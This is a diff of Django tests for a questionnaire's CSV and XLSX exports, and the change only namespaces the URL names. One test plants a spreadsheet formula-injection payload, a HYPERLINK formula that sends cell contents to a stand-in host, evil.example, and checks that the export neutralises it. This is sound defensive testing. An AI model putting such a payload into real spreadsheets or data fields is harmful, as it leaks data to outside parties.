@@ -69,7 +69,7 @@ def expected_header():
 
 
 def test_the_xlsx_opens_with_openpyxl_and_has_the_expected_header(facilitator_client, programme, answered):
-    response = facilitator_client.get(reverse("dtca_export_xlsx", args=[programme.pk]))
+    response = facilitator_client.get(reverse("dtca:export_xlsx", args=[programme.pk]))
     assert response.status_code == 200
     assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
     assert 'filename="dtca-' in response["Content-Disposition"]
@@ -97,7 +97,7 @@ def test_the_xlsx_opens_with_openpyxl_and_has_the_expected_header(facilitator_cl
 def test_the_csv_has_one_row_per_respondent_with_columns_in_questionnaire_order(
     facilitator_client, programme, answered
 ):
-    response = facilitator_client.get(reverse("dtca_export_csv", args=[programme.pk]))
+    response = facilitator_client.get(reverse("dtca:export_csv", args=[programme.pk]))
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     text = b"".join(response.streaming_content).decode("utf-8-sig")
     rows = list(csv.reader(io.StringIO(text)))
@@ -110,11 +110,11 @@ def test_the_csv_has_one_row_per_respondent_with_columns_in_questionnaire_order(
 
 def test_one_groups_download_holds_only_that_group(facilitator_client, programme, answered):
     group_b = programme.cohorts.get(name="Group B")
-    response = facilitator_client.get(reverse("dtca_export_csv", args=[programme.pk]) + f"?group={group_b.pk}")
+    response = facilitator_client.get(reverse("dtca:export_csv", args=[programme.pk]) + f"?group={group_b.pk}")
     rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
     assert {r[0] for r in rows[1:]} == {"Group B"} and len(rows) == 2
     assert "group-b" in response["Content-Disposition"]
-    response = facilitator_client.get(reverse("dtca_export_csv", args=[programme.pk]) + "?group=999999")
+    response = facilitator_client.get(reverse("dtca:export_csv", args=[programme.pk]) + "?group=999999")
     assert response.status_code == 404
 
 
@@ -126,7 +126,7 @@ def test_downloads_are_safe_against_formula_injection(facilitator_client, progra
     note = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     assessment.answers.filter(statement=structure.statements[0]).update(note=note)
 
-    text = b"".join(facilitator_client.get(reverse("dtca_export_csv", args=[programme.pk])).streaming_content).decode(
+    text = b"".join(facilitator_client.get(reverse("dtca:export_csv", args=[programme.pk])).streaming_content).decode(
         "utf-8-sig"
     )
     row = list(csv.reader(io.StringIO(text)))[1]
@@ -134,7 +134,7 @@ def test_downloads_are_safe_against_formula_injection(facilitator_client, progra
     assert "'" + note in row
     assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
 
-    content = facilitator_client.get(reverse("dtca_export_xlsx", args=[programme.pk])).content
+    content = facilitator_client.get(reverse("dtca:export_xlsx", args=[programme.pk])).content
     sheet = openpyxl.load_workbook(io.BytesIO(content))["Answers"]
     cells = list(sheet.iter_rows(min_row=2, max_row=2))[0]
     texts = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=")]
@@ -142,7 +142,7 @@ def test_downloads_are_safe_against_formula_injection(facilitator_client, progra
 
 
 def test_the_submission_moment_is_a_date_cell_in_the_reference_zone(facilitator_client, programme, answered):
-    content = facilitator_client.get(reverse("dtca_export_xlsx", args=[programme.pk])).content
+    content = facilitator_client.get(reverse("dtca:export_xlsx", args=[programme.pk])).content
     sheet = openpyxl.load_workbook(io.BytesIO(content))["Answers"]
     header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
     column = header.index("Submitted (ECT)")
@@ -152,7 +152,7 @@ def test_the_submission_moment_is_a_date_cell_in_the_reference_zone(facilitator_
     submitted = answered.dtca_assessments.get().submitted_at
     assert cell.value == submitted.astimezone(programme.tz).replace(tzinfo=None, microsecond=0)
     # The CSV writes the same wall time as text a spreadsheet reads as a date.
-    text = b"".join(facilitator_client.get(reverse("dtca_export_csv", args=[programme.pk])).streaming_content)
+    text = b"".join(facilitator_client.get(reverse("dtca:export_csv", args=[programme.pk])).streaming_content)
     rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
     ann = next(r for r in rows if r[2] == "Ann Alleyne")
     assert ann[column] == cell.value.strftime("%Y-%m-%d %H:%M")
